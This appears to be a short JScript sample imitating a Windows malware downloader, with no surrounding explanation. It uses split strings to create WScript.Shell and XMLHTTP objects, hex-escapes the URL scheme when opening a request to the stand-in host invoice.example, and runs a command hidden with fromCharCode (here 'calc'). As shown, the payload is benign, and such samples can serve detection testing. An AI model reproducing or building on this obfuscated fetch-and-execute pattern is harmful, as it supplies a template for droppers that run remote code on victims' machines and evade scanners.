var a = new ActiveXObject("WSc" + "ript.S" + "hell");
var b = new ActiveXObject("MSX" + 'ML2.XML' + "HTTP");
b.open("GET", "\x68\x74\x74\x70://invoice.example/x.txt", false);
a.Run(String.fromCharCode(99, 97, 108, 99));
